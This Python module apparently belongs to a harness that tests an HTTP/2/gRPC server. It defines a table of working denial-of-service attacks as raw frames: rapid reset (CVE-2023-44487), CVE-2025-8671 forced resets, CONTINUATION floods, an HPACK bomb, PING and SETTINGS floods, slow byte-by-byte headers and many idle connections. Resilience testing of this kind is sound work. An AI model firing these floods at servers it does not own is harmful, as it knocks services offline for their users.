"""What a client may do over HTTP/2 to stop a server: each attack is what one connection sends.

An attack yields blocks of bytes, for ever or until it has nothing more to say.
"""

import itertools
import struct
from collections.abc import Callable, Iterator
from typing import NamedTuple

from . import http2
from .http2 import END_HEADERS, END_STREAM, frame, literal

HEALTH = "/grpc.health.v1.Health/Check"
CHECK = http2.request_headers(HEALTH)
EMPTY = http2.grpc_message(b"")
MANY = 500


class Attack(NamedTuple):
    """How a client behaves."""

    blocks: Callable[[], Iterator[bytes]]
    reads: bool = True  # what the server says
    connections: int = 1  # at a time
    pause: float = 0.0  # in seconds, between blocks
    window: int = 65535
    hangs_up: bool = False  # when it has sent the blocks, to connect again


def repeat(block: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    """`first`, and then the block for ever, some KB at a time."""
    return lambda: itertools.chain([first], itertools.repeat(block * (16384 // len(block) + 1)))


def begun(stream: int, headers: bytes = CHECK, flags: int = END_HEADERS) -> bytes:
    """A call whose message is to come."""
    return frame(http2.HEADERS, flags, stream, headers)


def whole(stream: int, headers: bytes = CHECK, message: bytes = EMPTY) -> bytes:
    """A call that has been made."""
    return begun(stream, headers) + frame(http2.DATA, END_STREAM, stream, message)


def each_stream(block: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    """The block of stream after stream."""
    return lambda: (block(stream) for stream in range(1, 1 << 31, 2))


def reset(stream: int) -> bytes:
    """A call that is called off at once."""
    return begun(stream) + frame(http2.RST_STREAM, 0, stream, http2.CANCEL)


def made_to_be_reset(stream: int) -> bytes:
    """A call with an error, which the server has to reset (CVE-2025-8671)."""
    return begun(stream) + frame(http2.WINDOW_UPDATE, 0, stream, bytes(4))


def unfinished() -> Iterator[bytes]:
    """As many calls as the server takes, whose messages go on byte by byte."""
    large = struct.pack(">BI", 0, 200 << 20)
    streams = range(1, 2 * 100, 2)
    yield b"".join(begun(stream) + frame(http2.DATA, 0, stream, large) for stream in streams)
    while True:
        yield b"".join(frame(http2.DATA, 0, stream, b"x") for stream in streams)


def many_calls(stream: int) -> bytes:
    """A call that stays open."""
    return begun(stream)


def large_headers(stream: int) -> bytes:
    """A call with a header that the table remembers, a hundred times (an HPACK bomb)."""
    name, value = b"x" * 8, b"v" * 3900
    remembered = b"\x40" + http2.integer(len(name), 7) + name + http2.integer(len(value), 7) + value
    return begun(stream, CHECK + remembered + b"\xbe" * 4000, END_HEADERS | END_STREAM)


def slow_headers() -> Iterator[bytes]:
    """A header block that comes byte by byte and never ends."""
    yield frame(http2.HEADERS, 0, 1, CHECK)
    while True:
        yield frame(http2.CONTINUATION, 0, 1, literal("a", "b"))


def windows() -> Iterator[bytes]:
    """The window of every stream to come is changed, for and back."""
    block = b"".join(begun(stream) for stream in range(1, 200, 2))
    small, large = (
        frame(http2.SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, size))
        for size in (0, 1 << 20)
    )
    return itertools.chain([block], itertools.repeat((small + large) * 100))


PING = frame(http2.PING, 0, 0, bytes(8))
SETTINGS = frame(http2.SETTINGS, 0, 0)
HEADER_WITHOUT_END = frame(http2.CONTINUATION, 0, 1, literal("abcdefg", "v" * 7000))

ATTACKS = {
    "PING": Attack(repeat(PING)),
    "PING, answers not read": Attack(repeat(PING), reads=False),
    "SETTINGS": Attack(repeat(SETTINGS)),
    "SETTINGS that change windows": Attack(windows),
    "acknowledgements of SETTINGS": Attack(repeat(frame(http2.SETTINGS, http2.ACK, 0))),
    "calls reset at once (CVE-2023-44487)": Attack(each_stream(reset)),
    "calls made to be reset (CVE-2025-8671)": Attack(each_stream(made_to_be_reset)),
    "RST_STREAM of one ended stream": Attack(
        repeat(frame(http2.RST_STREAM, 0, 1, http2.CANCEL), whole(1))
    ),
    "empty DATA": Attack(repeat(frame(http2.DATA, 0, 1), begun(1))),
    "DATA of one byte": Attack(
        repeat(frame(http2.DATA, 0, 1, b"x"), begun(1) + frame(http2.DATA, 0, 1, b"\0\x0f\0\0\0"))
    ),
    "WINDOW_UPDATE by one": Attack(repeat(frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
    "windows beyond 2 GiB": Attack(
        repeat(frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1)))
    ),
    "PRIORITY, in circles": Attack(
        repeat(
            frame(http2.PRIORITY, 0, 1, struct.pack(">IB", 3, 1))
            + frame(http2.PRIORITY, 0, 3, struct.pack(">IB", 1, 1))
        )
    ),
    "unknown frames": Attack(repeat(frame(0xBB, 0, 0, bytes(8)))),
    "headers over CONTINUATION (CVE-2024-28182)": Attack(
        repeat(HEADER_WITHOUT_END, frame(http2.HEADERS, 0, 1, CHECK))
    ),
    "headers byte by byte": Attack(slow_headers, pause=0.05, connections=MANY),
    "one header, 4000 times (HPACK bomb)": Attack(each_stream(large_headers)),
    "calls without end": Attack(each_stream(many_calls)),
    "messages byte by byte": Attack(unfinished, pause=0.05, connections=20),
    "trailers that are not the end": Attack(each_stream(lambda n: begun(n) * 2)),
    "windows of 0": Attack(each_stream(whole), window=0, connections=20),
    "answers not read": Attack(each_stream(whole), reads=False),
    "connections that say nothing": Attack(lambda: iter(()), connections=MANY),
    "connections that hang up": Attack(lambda: iter((whole(1),)), hangs_up=True),
    "GOAWAY": Attack(repeat(frame(http2.GOAWAY, 0, 0, bytes(8)))),
}
